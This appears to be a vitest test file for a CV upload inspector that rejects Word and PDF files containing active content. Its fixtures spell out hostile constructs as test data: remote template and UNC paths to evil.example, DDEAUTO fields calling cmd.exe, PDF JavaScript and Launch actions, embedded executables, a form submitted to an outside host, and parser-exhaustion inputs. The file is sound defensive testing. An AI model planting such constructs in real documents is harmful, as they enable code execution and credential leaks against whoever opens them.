import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeDoc, makePdf, makePdfWith } from '#test/support/sample-files/documents.ts';
import { docxRelation, makeDocx, type ZipPart } from '#test/support/sample-files/zips.ts';
import { inspectUpload } from './inspect-upload.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'thengisa-active-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function inspect(name: string, content: Buffer) {
  const path = join(folder, 'file');
  await writeFile(path, content);
  return inspectUpload(path, 'cv', name);
}

const template = (target: string, more?: string) =>
  docxRelation('attachedTemplate', target, { of: 'settings.xml', ...(more !== undefined && { more }) });
const fields = (inside: string): ZipPart => ({ name: 'word/footer1.xml', content: `<w:ftr>${inside}</w:ftr>` });
const internal = 'TargetMode="Internal"';

describe('a Word document', () => {
  test.each<[string, ZipPart]>([
    ['a template of another server', template('https://evil.example/resume.dotm')],
    ['a template of another server, by its other name', template('file://evil.example/share/resume.dotx')],
    ['a template of a network folder', template('\\\\evil.example\\share\\resume.dotx')],
    ['a template of a network folder, as a path', template('file:////evil.example/share/resume.dotx')],
    ['a template of a network folder, in disguise', template('file:///%5C%5Cevil.example/resume.dotx')],
    ['a template of a network folder, by a name of the system', template('\\??\\UNC\\evil.example\\resume.dotx')],
    ['a template whose place is spelt in numbers', template('&#104;ttps://evil.example/resume.dotx')],
    ['a template that says it is far away in numbers', template('https://evil.example/a', 'TargetMode="&#69;xternal"')],
    ['a picture that is loaded', docxRelation('image', 'https://evil.example/seen.png')],
    ['a page that is loaded', docxRelation('frame', 'https://evil.example/', { of: 'webSettings.xml' })],
    ['an object of another program', docxRelation('oleObject', 'embeddings/oleObject1.bin', { more: internal })],
    ['a file', docxRelation('package', 'embeddings/run.docm', { more: '' })],
    [
      'a workbook with macros behind its chart',
      docxRelation('package', '../embeddings/a.xlsm', { of: 'charts/chart1.xml' }),
    ],
    ['HTML', docxRelation('aFChunk', 'chunk.html', { more: '' })],
    ['a control', docxRelation('control', 'controls/one.xml', { more: '' })],
    ['an object by its name', { name: 'word/embeddings/oleObject1.bin', content: 'x' }],
    [
      'relations in another encoding',
      { name: 'word/_rels/document.xml.rels', content: Buffer.from('\ufeffx', 'utf16le') },
    ],
    [
      'relations with entities of their own',
      { name: 'word/_rels/a.xml.rels', content: '<!DOCTYPE a [<!ENTITY e "x">]>' },
    ],
    [
      'a field that asks a program',
      fields('<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText>'),
    ],
    ['a simple field that asks a program', fields('<w:fldSimple w:instr=" DDE cmd x "/>')],
  ])('with %s is refused', async (_, part) => {
    await expect(inspect('cv.docx', makeDocx([part]))).rejects.toMatchObject({ code: 'file.active' });
  });

  test.each<[string, ZipPart]>([
    ['links', docxRelation('hyperlink', 'https://www.linkedin.com/in/thabo')],
    ['pictures of its own', docxRelation('image', 'media/image1.png', { more: '' })],
    ['a template on its own disk', template('file:///C:\\Users\\Thabo\\Templates\\Resume.dotx')],
    ['a template on its own disk, on a Mac', template('file://localhost/Users/thabo/Resume.dotx')],
    ['the name of a template', template('Normal.dotm')],
    [
      'numbers behind its chart',
      docxRelation('package', '../embeddings/a.xlsx', { of: 'charts/chart1.xml', more: '' }),
    ],
    ['fields', fields('<w:instrText>PAGE </w:instrText><w:instrText>HYPERLINK "x"</w:instrText>')],
  ])('with %s is accepted', async (_, part) => {
    expect(await inspect('cv.docx', makeDocx([part]))).toMatchObject({ extension: 'docx' });
  });

  test.each(['_1712345678', '\x03ObjInfo', 'Macros'])('in the old format with %j is refused', async (storage) => {
    await expect(inspect('cv.doc', makeDoc({ storage }))).rejects.toMatchObject({ code: 'file.active' });
  });

  // If parsing took quadratic time, 5 MB would block the process for hours.
  test('with endless relations is damaged', async () => {
    const content = `<Relationships>${'<Relationship '.repeat(20_000)}`;
    const part = { name: 'word/_rels/footer1.xml.rels', content };
    await expect(inspect('cv.docx', makeDocx([part]))).rejects.toMatchObject({ code: 'file.damaged' });
  });

  test('in the old format with an empty object pool is accepted', async () => {
    expect(await inspect('cv.doc', makeDoc({ storage: 'ObjectPool' }))).toMatchObject({ extension: 'doc' });
  });
});

describe('a PDF', () => {
  const active = [
    ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
    ['a script that is spelt in numbers', '<< /S/J#61vaScript /JS 5 0 R >>'],
    ['a script behind a comment', '<< /S %here\n /JavaScript /JS 5 0 R >>'],
    ['scripts of its own', '<< /Names << /JavaScript 12 0 R >> >>'],
    ['a program', '<< /Type /Action /S /Launch /F (cmd.exe) >>'],
    ['files', '<< /Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >> >>'],
    ['a file', '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>'],
    ['a form of another kind', '<< /AcroForm << /XFA [(a) 3 0 R] >> >>'],
    ['a form that is sent away', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ] as const;
  test.each(active)('with %s is refused', async (_, object) => {
    await expect(inspect('cv.pdf', await makePdfWith(object))).rejects.toMatchObject({ code: 'file.active' });
  });

  test.each(active)('with %s in an object stream is refused', async (_, object) => {
    const content = await makePdfWith(object, { packed: true });
    expect(content.toString('latin1')).not.toContain(object);
    await expect(inspect('cv.pdf', content)).rejects.toMatchObject({ code: 'file.active' });
  });

  test.each(['/LZWDecode', '[/ASCIIHexDecode /FlateDecode]', '/FlateDecode /DecodeParms << /Predictor 12 >>'])(
    'whose object streams use %s is refused',
    async (filter) => {
      const content = await makePdfWith('<< /A 1 >>', { packed: true, filter });
      await expect(inspect('cv.pdf', content)).rejects.toMatchObject({ code: 'file.active' });
    },
  );

  test('with invalid object streams is damaged, and one that unpacks to a huge size is unsafe', async () => {
    const whole = await makePdfWith('<< /A 1 >>', { packed: true });
    const broken = Buffer.from(whole.toString('latin1').replace(/stream\nx/, 'stream\nX'), 'latin1');
    await expect(inspect('cv.pdf', broken)).rejects.toMatchObject({ code: 'file.damaged' });
    const large = await makePdfWith(`(${' '.repeat(40 * 1024 * 1024)})`, { packed: true });
    await expect(inspect('cv.pdf', large)).rejects.toMatchObject({ code: 'file.unsafe' });
  });

  test.each([
    ['words that name a script', '<< /Title (HTML/CSS/JavaScript developer, /JS (2 years)) >>'],
    ['links', '<< /S /URI /URI (https://www.example.co.za/JavaScript) >>'],
    ['a first page', '<< /OpenAction [3 0 R /Fit] /Names << /Dests 4 0 R >> >>'],
  ])('with %s is accepted', async (_, object) => {
    expect(await inspect('cv.pdf', await makePdfWith(object))).toMatchObject({ extension: 'pdf' });
    expect(await inspect('cv.pdf', await makePdfWith(object, { packed: true }))).toMatchObject({ extension: 'pdf' });
  });

  test.each(['/S%', '%/S\n'])('in which each %j starts a scan of the rest is unsafe', async (piece) => {
    const content = await makePdfWith(piece.repeat(20_000));
    await expect(inspect('cv.pdf', content)).rejects.toMatchObject({ code: 'file.unsafe' });
  });

  test('as usually created is accepted', async () => {
    expect(await inspect('cv.pdf', await makePdf())).toMatchObject({ extension: 'pdf' });
  });
});
